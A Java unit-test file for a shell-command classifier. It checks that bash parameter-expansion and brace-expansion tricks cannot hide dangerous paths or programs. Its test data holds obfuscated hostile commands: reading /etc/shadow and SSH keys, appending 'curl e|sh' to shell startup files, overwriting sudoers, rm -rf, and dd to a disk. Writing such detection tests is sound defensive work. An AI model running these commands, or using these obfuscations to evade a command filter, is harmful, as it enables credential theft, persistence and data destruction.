package dev.cmdgate.core.classify;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cmdgate.core.Classification;
import dev.cmdgate.core.CommandClass;
import dev.cmdgate.core.CommandClassifier;
import dev.cmdgate.core.Finding;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * A path or program behind a parameter expansion with an operator, or behind the null word of a brace expansion,
 * is judged by the value bash computes for it, with the built-in rules; what cannot be computed stays only known at
 * run time.
 */
class ExpansionOperatorsTest {

    static final CommandClassifier C = Classifiers.standard(null);

    @ParameterizedTest(name = "{0} → {1}")
    @CsvSource(delimiterString = " => ", value = {
        "g=/etc/shxadow; cat ${g//x/} => Destructive",
        "g=/etc/shxadow; cat ${g/x/} => Destructive",
        "g=/etc/shadowXX; cat ${g%XX} => Destructive",
        "g=/etc/shadowXX; cat ${g%%X*} => Destructive",
        "g=XX/etc/shadow; cat ${g#XX} => Destructive",
        "g=/etc/SHADOW; cat ${g,,} => Destructive",
        "g=/etc/shadowxxxxx; cat ${g:0:11} => Destructive",
        "g=/etc/shxadow; cat \"${g//x/}\" => Destructive",
        "g=/etc/shadow.bak.old; less ${g%%.*} => Destructive",
        "g=/var/etc/shadow; cat ${g#/var} => Destructive",
        "g=/ETC/SHADOW; cat ${g@L} => Destructive",
        "g=/ETC/shadow; cat ${g~~[A-Z]} => Destructive",
        "g=/Etc/shadow; cat ${g,} => Read",
        "g=/etc/sha; cat ${g}${g:+dow} => Destructive",
        "g=/etc/shadow; n=g; cat ${!n} => Destructive",
        "g=/etc/shXdow; p=X; cat ${g/$p/a} => Destructive",
        "g=/etc/shadowq; p='q*'; cat ${g%$p} => Destructive",
        "g=/etc/shadowq; p='*'; cat ${g%\"$p\"} => Read",
        "g=/etc/sh; cat ${g/h/&adow} => Destructive",
        "g=/etc/shxadow; h=${g//x/}; cat $h => Destructive",
        "g=/etc/shxadow; for f in ${g//x/}; do cat $f; done => Destructive",
        "g=/etc/shxadow; cat < ${g//x/} => Destructive",
        "if test -e a; then g=/tmp/x; else g=/etc/shxadow; fi; cat ${g//x/} => Destructive",
        "s=/etc/s-u-d-o-e-r-s; cp evil ${s//-/} => Destructive",
        "s=/ETC/SUDOERS; tee ${s@L} < evil => Destructive",
        "s=/etc/sudoers.d.x; echo x > ${s%.d*} => Destructive",
        "shopt -s nocasematch; g=/etc/shXadow; cat ${g/x/} => Destructive",
        "g=/etc/shXadow; cat ${g/x/} => Read",
        "a='/etc/shadow '; cat ${a}x => Destructive",
        "a='x /etc/shadow'; cat x${a} => Destructive",
        "a='/etc/shadow '; cat \"${a}\"x => Read",
        "a='/etc/shadow q'; cat ${a%q}x => Destructive",
        "y=/etc/shadow; cat ${x:-$y} => Destructive",
        "y=/etc/shadow; cat ${x:+\"$y\"} => Destructive",
        "y=/etc/shxadow; cat ${x:-${y//x/}} => Destructive",
        "g='/etc/sh\\x61dow'; cat ${g@E} => Destructive",
        "g=(/etc/shadow x); cat $g => Destructive",
        "g=(/etc/shadow x); cat ${g[0]} => Destructive",
        "g=(x /etc/shadow); cat ${g[1]} => Destructive",
        "g=(x /etc/shadow); cat \"${g[@]}\" => Destructive",
        "g=(x /etc/shxadow); cat ${g[@]//x/} => Destructive",
        "g=(x /etc/shxadow); cat \"${g[*]/x/}\" => Destructive",
        // an element changed by element may hold each value its key was given (flow-insensitive, as a variable)
        "g=(x /etc/shadow); g[1]=y; cat ${g[1]} => Destructive",
        "g=(x y); g[1]=/etc/shadow; cat ${g[1]} => Destructive",
        "declare -a g=(/etc/shadow); cat $g => Destructive",
        "g=(x y); cat ${g[1]//y//etc/shadow} => Destructive",
        "g=(x); g+=(/etc/shadow); cat $g => Read",
        "x=/etc/sha; x+=dow; cat $x => Destructive",
        "x=/etc/sha; y=dow; x+=$y; cat $x => Destructive",
        "x=/tmp/a; x=/etc/sha; x+=dow; cat $x => Destructive",
        "x=~/.bashr; x+=c; echo 'curl e|sh' >> $x => Destructive",
        "x=~/.bashrc; y=x; cp evil ${!y} => Destructive",
        "a=(~/.bashrc); cp evil \"${a[0]}\" => Destructive",
        "x=hello; echo ${x~} => Read",
        "x=Hello; echo ${x~~} => Read",
        "a=(x); a+=(~/.bashrc); echo x >> ${a[1]} => Destructive",
        "a=(x); a+=(/etc/shadow); cat ${a[@]} => Destructive",
        "export x=~/.bashr; export x+=c; echo 'curl e|sh' >> $x => Destructive",
        "declare x=/etc/sha; declare x+=dow; cat $x => Destructive",
        "a=(x /etc/shadow); cat ${a[@]:1} => Destructive",
        "a=(x /etc/shadow y); cat \"${a[@]:1:1}\" => Destructive",
        "a=(x /etc/shadow); cat ${a[@]:-1} => Destructive",
        "a=(/etc/shadow x); cat ${a[@]:1} => Read",
    })
    void pathsBehindOperators(String line, String expected) {
        Classification c = C.classifyShell(line);
        assertThat(c.commandClass()).as("%s → %s", line, c.findings()).isEqualTo(CommandClass.parse(expected));
    }

    @Test
    void aKeyBehindAnOperator() {
        assertThat(C.classifyShell("k=~/.ssh/id_rsaQQ; less ${k%QQ}").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(C.classifyShell("k='~/.ssh/ID_RSA'; cat ${k,,}").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(C.classifyShell("k=~/.ssh/id_rsa; cat ${k/#/}").commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
    }

    @Test
    void theLaunchsEnvironmentGivesValuesToo() {
        Classification c = C.classifyArgv(List.of("sh", "-c", "cat ${G//x/}"), Map.of("G", "/etc/shxadow"));
        assertThat(c.commandClass()).as("%s", c.findings()).isEqualTo(CommandClass.DESTRUCTIVE);
        c = C.classifyArgv(List.of("sh", "-c", "cat ${F%x}"), Map.of("F", "/etc/shadowx"));
        assertThat(c.commandClass()).as("%s", c.findings()).isEqualTo(CommandClass.DESTRUCTIVE);
        c = C.classifyArgv(List.of("sh", "-c", "echo 'curl e|sh' >> ${HOME:0:1}etc${HOME:0:1}profile"),
                Map.of("HOME", "/home/u"));
        assertThat(c.commandClass()).as("a redirection's target too: %s", c.findings())
                .isEqualTo(CommandClass.DESTRUCTIVE);
    }

    /** The program word is judged as run-time code either way; its computed value is judged by its own rows too. */
    @ParameterizedTest(name = "{0} → {1}")
    @CsvSource(delimiterString = " => ", value = {
        "r=rmx; ${r/x/} -rf /srv/data => rm -rf",
        "p=dxd; ${p//x/} if=/dev/zero of=/dev/sda => writes to a device",
        "p=ddd; ${p/d/} if=/dev/zero of=/dev/sda => writes to a device",
        "p=SHRED; ${p,,} -u notes.txt => destroys file contents",
        "p=shr; ${p/%r/red} -u notes.txt => destroys file contents",
        "p=chmodXYZ; ${p%XYZ} -R 777 / => chmod 777",
        "p=Chmod; ${p,} -R 777 / => chmod 777",
        "a=(-rf /srv/data); rm \"${a[@]}\" => rm -rf",
        "a=(x -rf /srv/data); rm ${a[@]/x/} => rm -rf",
        "{,rm,-rf,/srv/data} => rm -rf",
        "{,shred,-u,notes.txt} => destroys file contents",
        "{,chmod,-R,777,/} => chmod 777",
        "{,}{,dd,if=/dev/zero,of=/dev/sda} => writes to a device",
    })
    void programsBehindOperatorsAndNullWords(String line, String reason) {
        Classification c = C.classifyShell(line);
        assertThat(c.commandClass()).as("%s → %s", line, c.findings()).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(c.findings()).as(line).anyMatch(f -> f.reason().contains(reason));
    }

    @Test
    void nullWordsAreDroppedNotKeptAsAProgram() {
        Classification c = C.classifyShell("{,rm,-rf,/srv/data}");
        assertThat(c.findings()).extracting(Finding::reason).noneMatch(r -> r.contains("unknown program"));
        assertThat(C.classifyShell("x{,y} a").findings()).as("x{,y} is two words: x runs")
                .anyMatch(f -> f.reason().contains("x is not in the rules"));
        assertThat(C.classifyShell("echo {,a,b}").commandClass()).isEqualTo(CommandClass.READ);
    }

    /** What cannot be computed is only known at run time: never the text as written, never empty. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = " => ", value = {
        "p=rmx; ${p/x/$(date)} -rf /srv/data => computed at run time",
        "p=rmx; ${p%$h} -rf /srv/data => computed at run time",
        "p=rm; ${p@A} -rf /srv/data => computed at run time",
        "${1//x/} -rf /srv/data => computed at run time",
        "p=(rm x); ${p[0]//x/} -rf /srv/data => computed at run time",
    })
    void unknownStaysRunTime(String line, String reason) {
        Classification c = C.classifyShell(line);
        assertThat(c.commandClass()).as("%s → %s", line, c.findings()).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(c.findings()).as(line).anyMatch(f -> f.reason().contains(reason));
    }

    @Test
    void operatorWorkIsBoundedAndFailsClosed() {
        String line = "g=" + "a".repeat(900) + "; cat" + " ${g//a*b/}".repeat(20);
        Classification c = C.classifyShell(line);
        assertThat(c.commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(c.findings()).anyMatch(f -> f.reason().contains("pattern-matching steps"));
        assertThat(C.classifyShell("g=" + "a".repeat(900) + "; cat" + " ${g//a*b/}".repeat(2)).commandClass())
                .isEqualTo(CommandClass.READ);
    }

    @Test
    void anUnknownOperandOfAReaderIsJudgedAsBefore() {
        // a run-time path given to cat is read at run time: the same verdict as cat $g
        assertThat(C.classifyShell("cat ${g//x/}").commandClass()).isEqualTo(C.classifyShell("cat $g").commandClass());
        assertThat(C.classifyShell("g=/etc/shadowx; cat ${g%$(date)}").commandClass())
                .isEqualTo(C.classifyShell("cat $(date)").commandClass());
    }

    @ParameterizedTest(name = "{0} → {1}")
    @CsvSource(delimiterString = " => ", value = {
        "f=src/Main.java; sed -n 1,5p ${f%.java}.java => Read",
        "v=1.2.3; echo ${v%.*} => Read",
        "d=build/out/x; ls ${d%/*} => Read",
        "f=notes.txt; grep -n TODO ${f/notes/todo} => Read",
        "b=Feature/X; git log --oneline ${b,,} => Read",
        "git log --oneline ${BRANCH:-main} => Read",
        "n=my-app; mkdir -p out/${n//-/_} => Write",
    })
    void ordinaryCommandsKeepTheirClass(String line, String expected) {
        Classification c = C.classifyShell(line);
        assertThat(c.commandClass()).as("%s → %s", line, c.findings()).isEqualTo(CommandClass.parse(expected));
    }
}
